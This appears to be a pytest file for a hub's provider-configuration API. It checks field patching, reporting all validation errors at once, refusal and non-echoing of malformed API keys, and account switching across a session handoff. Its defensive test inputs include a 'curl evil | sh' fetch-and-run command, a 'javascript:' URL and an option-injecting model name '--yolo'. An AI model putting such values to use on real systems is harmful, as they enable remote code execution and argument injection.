"""Changing providers over the API: what is asked of the actors, and what a wrong body is told."""

from __future__ import annotations

from typing import Any

import pytest

from hub.errors import Code, HubError
from hub.messages.settings import PatchProvider
from tests.faults.harness import project
from tests.hub.actors.daemon import daemon_of
from tests.hub.web.fake import Server
from tests.hub.web.wire import ask

SECRET = "sk-ant-api03-wonderful"


async def post(server: Server, path: str, body: Any) -> Any:
    return await ask(server.port, "POST", path, body)


async def test_only_what_is_given_is_changed(server: Server):
    await post(server, "/api/config/providers", {"name": "claude", "model": "m"})
    await post(server, "/api/config/providers", {"name": "claude"})
    await post(server, "/api/config/providers", {"name": "claude", "enabled": None, "baseUrl": None})
    assert server.actors.calls == [
        PatchProvider("claude", {"model": "m"}),
        PatchProvider("claude", {}),
        PatchProvider("claude", {"enabled": None, "baseUrl": None}),  # null takes a key out
    ]


async def test_what_a_get_answers_can_be_sent_back(server: Server):
    """A form that was not touched: 0 and "" stand for "not set", and set nothing."""
    entry = (await ask(server.port, "GET", "/api/config/providers")).json[0]
    form = {key: entry[key] for key in ("name", "enabled")} | {"declaredCap": 0, "model": "", "baseUrl": ""}
    assert (await post(server, "/api/config/providers", form)).status == 200
    assert server.actors.calls[-1] == PatchProvider(
        entry["name"],
        {"enabled": True, "declaredCap": None, "model": None, "baseUrl": None},
    )


async def test_every_problem_is_told_at_once_with_its_place(server: Server):
    body = {"name": "a b", "enabled": "yes", "declaredCap": -1, "model": 5, "baseUrl": "javascript:x", "x": 1}
    reply = await post(server, "/api/config/providers", body)
    assert (reply.status, reply.json["code"]) == (422, "invalid")
    problems = {problem["path"]: problem["message"] for problem in reply.json["errors"]}
    assert set(problems) == {f"$.{name}" for name in body}
    assert "Allowed: baseUrl, declaredCap, enabled, model, name" in problems["$.x"]
    assert server.actors.calls == []


@pytest.mark.parametrize(
    "value",
    [
        f"{SECRET}\n",
        f"{SECRET}\r",
        f"{SECRET}\0",
        f" {SECRET}",
        f"{SECRET} ",
        f"{SECRET}\u00a0",
        SECRET * 1000,
        [SECRET],
    ],
)
async def test_a_bad_key_is_refused_and_not_repeated(server: Server, value: Any):
    """Blanks around one came along from a page that it was copied of, and its agent was not logged in."""
    reply = await post(server, "/api/providers/api-key", {"name": "claude", "value": value})
    assert reply.status == 422
    assert SECRET.encode() not in reply.body
    assert server.actors.calls == []


async def test_a_key_is_not_in_the_answer(server: Server):
    reply = await post(server, "/api/providers/api-key", {"name": "claude", "value": SECRET})
    assert (reply.status, set(reply.json)) == (200, {"ok", "provider", "name", "set"})
    assert SECRET.encode() not in reply.body


COMMANDS = (
    "program",
    "command",
    "install",
    "installCommand",
    "loginCommand",
    "env",
    "args",
    "script",
    "verify",
)


@pytest.mark.parametrize("name", COMMANDS)
async def test_nothing_that_is_run_can_be_set(server: Server, name: str):
    """What hub starts comes from its own table and the user's files, never from a caller of the API."""
    reply = await post(server, "/api/config/providers", {"name": "claude", name: "curl evil | sh"})
    assert (reply.status, reply.json["errors"][0]["path"]) == (422, f"$.{name}")
    assert server.actors.calls == []


async def test_a_model_that_is_an_option_is_refused_with_a_word(server: Server):
    """It becomes an argument of the agent's program; a pattern alone tells nobody what to do."""
    reply = await post(server, "/api/config/providers", {"name": "claude", "model": "--yolo"})
    assert (reply.status, reply.json["code"], reply.json["errors"][0]["path"]) == (422, "invalid", "$.model")
    assert "an agent would take it for an option" in reply.json["detail"]
    assert reply.json["hint"]
    assert server.actors.calls == []


@pytest.fixture
def made(tmp_path):
    with project(tmp_path) as found:
        found.script("demo-first", {"ask": "go on?"}, {"done": "ok"})
        found.configure()
        yield found


async def test_a_switch_during_a_session_is_used_at_the_handoff(made, monkeypatch):
    """And the account the agent has cannot be forgotten meanwhile; afterwards it can."""
    async with daemon_of(made, monkeypatch) as live:
        for label in ("a", "b"):
            await live.post("/api/providers/account/add", {"provider": "demo-first", "label": label})
        await live.post("/api/providers/account", {"provider": "demo-first", "label": "a"})
        await live.post("/api/run", {"task": "write", "provider": "demo-first", "verify": []})
        status = await live.until(lambda s: s["needsInput"], "the agent asks")
        assert status["account"] == "a"
        await live.post("/api/providers/account", {"provider": "demo-first", "label": "b"})
        with pytest.raises(HubError) as caught:
            await live.post("/api/providers/account/remove", {"provider": "demo-first", "label": "a"})
        assert caught.value.code is Code.ACCOUNT_IN_USE
        await live.post("/api/handoff")
        status = await live.until(lambda s: s["handoffsDone"] == 1 and s["needsInput"], "the next one asks")
        assert (status["activeProvider"], status["account"]) == ("demo-first", "b")
        await live.post("/api/providers/account/remove", {"provider": "demo-first", "label": "a"})
        await live.post("/api/session/stop")
        await live.post("/api/providers/account/remove", {"provider": "demo-first", "label": "b"})
        (entry,) = [e for e in await live.get("/api/config/providers") if e["name"] == "demo-first"]
        assert [a["label"] for a in entry["accounts"]] == ["default"]
